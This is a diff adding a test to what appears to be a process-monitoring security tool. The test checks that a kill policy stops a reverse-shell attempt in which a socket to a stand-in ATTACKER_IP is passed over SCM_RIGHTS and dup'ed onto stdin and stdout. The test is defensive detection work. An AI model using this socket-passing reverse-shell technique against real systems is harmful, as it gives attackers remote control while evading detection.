@@ -231,3 +231,22 @@ def test_tcp_fast_open_to_a_blocked_port_is_a_blocked_connect(watched, py, lab, 
     assert run.returncode == -9
     conns = run.of(model.ConnectEvent, daddr=ATTACKER_IP, dport=4451)
     assert len(conns) == 1 and conns[0].killed
+
+
+def test_a_socket_passed_over_scm_rights_meets_the_shell_socket_kill_policy(watched, attack, lab):
+    """attack.c scm: the receiver (no shell by name) is killed at the dup that makes both its
+    stdin and stdout the passed socket, as at a dup of one it connected; /bin/sh never runs and
+    the listener gets no prompt."""
+    attacker = Attacker(lab, "listen", ATTACKER_IP, 4452)
+    run = watched.run(in_container(lab, [attack, "scm", ATTACKER_IP, "4452"]), kill_policy=SHELL_KILL)
+    assert attacker.result() == {"connected": True, "received": 0}
+    assert run.returncode == 0, run.stderr
+    [passed] = run.of(model.PrivEvent, op="scm_rights")
+    assert (passed.arg0, passed.arg1) == (run.pid, 1)
+    receiver = passed.pid
+    dups = run.of(model.DupEvent, pid=receiver)
+    assert [(d.newfd, d.is_socket, d.killed) for d in dups] == [(0, True, False), (1, True, True)]
+    assert dups[1].daddr == ATTACKER_IP
+    assert died_of_sigkill(run, receiver)
+    assert not run.of(model.ExecEvent, filename="/bin/sh")
+    assert watched.probes.kill_counts().get("shell_socket", 0) >= 1
